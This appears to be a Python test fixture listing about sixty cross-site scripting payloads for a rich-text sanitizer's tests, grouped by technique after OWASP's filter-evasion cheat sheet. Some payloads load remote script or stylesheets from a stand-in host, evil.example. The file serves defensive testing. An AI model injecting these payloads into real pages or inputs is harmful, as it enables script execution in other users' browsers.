"""Markup that tries to become script, one for each technique of OWASP's XSS Filter Evasion
Cheat Sheet (cheatsheetseries.owasp.org), in our own words."""

from tests.core.test_rich_text import VECTORS

IN_TAGS = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x src=https://evil.example/x.js></script>",
    '<script\nsrc="https://evil.example/x.js"\n>',
    "<script>alert(1)//",
    "<<script>alert(1);//\\<</script>",
    "<script src=//evil.example/.j",
    '<scr\x00ipt>alert(1)</scr\x00ipt>',
    '"><script>alert(String.fromCharCode(49))</script>',
    "</title><script>alert(1)</script>",
    "';alert(1)//\";alert(1)//--></script>\">'><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--#exec cmd=\"echo alert(1)\"-->",
    "<? echo('<script>alert(1)</script>'); ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip
IN_ATTRIBUTES = [
    '<img """><script>alert(1)</script>">',
    "<img src=# onmouseover=alert(1)>",
    "<img onmouseover=alert(1)>",
    "<img src=/ onerror=\"alert(1)\"></img>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<img/src=x/onerror=alert`1`>",
    "<img src=`javascript:alert(1)`>",
    "<a onmouseover=alert(1)>x</a>",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input type=image src=javascript:alert(1) autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
]  # fmt: skip
IN_ADDRESSES = [
    "<a href=javas&#99;ript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='jav\rascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href=&#0000106&#0000097&#0000118&#0000097script:alert(1)>x</a>",
    "<a href='https://evil.example\" onclick=\"alert(1)'>x</a>",
    "<iframe src=https://evil.example/ onload=alert(1)></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<bgsound src=javascript:alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/\"onmouseover=\"alert(1)",
]  # fmt: skip
IN_STYLES = [
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='background:\\75rl(javascript:alert(1))'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style><ul><li>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<xss style='behavior:url(x.htc)'>",
    "<xml id=i><x><![CDATA[<img src='javas]]><![CDATA[cript:alert(1)'>]]></x></xml>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
]

ALL_VECTORS = [*VECTORS, *IN_TAGS, *IN_ATTRIBUTES, *IN_ADDRESSES, *IN_STYLES]
